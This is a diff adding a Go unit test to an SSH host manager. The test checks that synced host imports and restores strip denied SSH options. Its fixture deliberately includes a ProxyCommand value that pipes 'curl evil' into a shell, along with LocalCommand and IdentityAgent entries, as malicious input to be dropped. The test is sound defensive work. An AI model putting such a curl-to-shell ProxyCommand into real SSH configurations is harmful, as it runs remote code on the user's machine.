@@ -0,0 +1,49 @@
+package sync
+
+import (
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/Vansh-Raja/SSHThing/internal/db"
+)
+
+func TestImportDropsDeniedSSHOptions(t *testing.T) {
+	const password = "testpassword123"
+	t.Setenv("SSHTHING_DATA_DIR", t.TempDir())
+	store, err := db.Init(password)
+	if err != nil {
+		t.Fatalf("Init failed: %v", err)
+	}
+	defer store.Close()
+
+	now := time.Now()
+	data := &SyncData{Hosts: []SyncHost{{
+		ID: 7, Label: "web", Hostname: "web.example.com", Username: "ubuntu", Port: 22, KeyType: "password",
+		SSHOptions: map[string]string{"IPQoS": "throughput", "ProxyCommand": "sh -c 'curl evil | sh'", "LocalCommand": "id", "PermitLocalCommand": "yes", "IdentityAgent": "/tmp/agent"},
+		CreatedAt:  now, UpdatedAt: now,
+	}}}
+	res, err := Import(store, data, password)
+	if err != nil || res.Added != 1 {
+		t.Fatalf("expected host added, got %+v (%v)", res, err)
+	}
+	if len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], "IdentityAgent, LocalCommand, PermitLocalCommand, ProxyCommand") {
+		t.Fatalf("expected a warning naming the dropped options, got %v", res.Warnings)
+	}
+	h, err := store.GetHostByID(7)
+	if err != nil {
+		t.Fatalf("GetHostByID failed: %v", err)
+	}
+	if len(h.SSHOptions) != 1 || h.SSHOptions["IPQoS"] != "throughput" {
+		t.Fatalf("expected only the allowed option to be stored, got %v", h.SSHOptions)
+	}
+
+	// Restore overwrites regardless of timestamps; it must still drop them.
+	data.Hosts[0].UpdatedAt = now.Add(time.Minute)
+	if _, err := Restore(store, data, password); err != nil {
+		t.Fatalf("Restore failed: %v", err)
+	}
+	if h, _ := store.GetHostByID(7); len(h.SSHOptions) != 1 {
+		t.Fatalf("expected restore to drop denied options, got %v", h.SSHOptions)
+	}
+}